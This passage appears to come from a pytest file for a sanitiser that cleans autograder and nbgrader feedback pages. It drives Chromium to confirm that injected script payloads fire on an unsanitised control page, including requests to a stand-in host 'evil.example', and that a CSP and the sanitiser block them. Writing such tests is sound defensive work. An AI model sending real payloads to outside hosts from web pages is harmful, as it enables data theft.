        state.update(dialogs=dialogs, requests=[r for r in requests if not r.startswith("data:")], url=page.url,
                     failed=failed, navigations=navigations[1:])
        return state
    finally:
        page.close()


@needs_chromium
def test_the_harness_sees_payloads_fire_in_an_unsanitised_page(served, chromium):
    state = open_page(chromium, f"{served}/control.html")
    assert state["pwned"] or state["dialogs"], state  # without the sanitiser, scripts run
    assert any("evil.example" in r for r in state["requests"]), state["requests"]


@needs_chromium
def test_the_csp_alone_stops_the_payloads(served, chromium):
    state = open_page(chromium, f"{served}/csp-only.html")
    assert (state["pwned"], state["dialogs"]) == (None, []), state
    tried = [r for r in state["requests"] if r not in state["navigations"] and not r.endswith("/csp-only.html")]
    assert tried and all(state["failed"].get(r) == "csp" for r in tried), (tried, state["failed"])
    assert state["csp"], "the policy blocked nothing: the control page should have tried"


@needs_chromium
@pytest.mark.parametrize("name", ["autograder-eve", "autograder-colab", "nbgrader-eve", "nbgrader-colab", "exporter"])
def test_feedback_pages_run_no_script_and_load_nothing_in_chromium(served, chromium, name):
    url = f"{served}/{name}.html"
    state = open_page(chromium, url)
    assert state["pwned"] is None and state["dialogs"] == [], state
    assert state["scripts"] == 0
    assert state["requests"] == [url], state["requests"]  # the page itself, nothing from this or another host
    assert state["url"].split("#")[0] == url  # no refresh, no navigation (a click on "#top" stays on the page)
    assert state["csp"] == [], f"the sanitised page still tried something the policy had to block: {state['csp']}"


def test_malformed_submitted_outputs_are_dropped_not_fatal():
    bad = [{"output_type": "display_data", "data": {"image/png": PNG}, "metadata": "not a dict"},
           {"output_type": "stream", "name": "stdout", "text": ["a", "b"]}, {"output_type": "weird"}, "not a dict",
           {"output_type": "display_data", "data": {"image/png": "not base64 !!"}},
           {"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {"image/png": {"width": True}}}]
    kept = [hidehiddentests._own(o) for o in bad]
    assert kept[0] is None and kept[1].text == "ab" and kept[2:5] == [None, None, None]
    assert kept[5].metadata == {}  # a width that is not a number is dropped
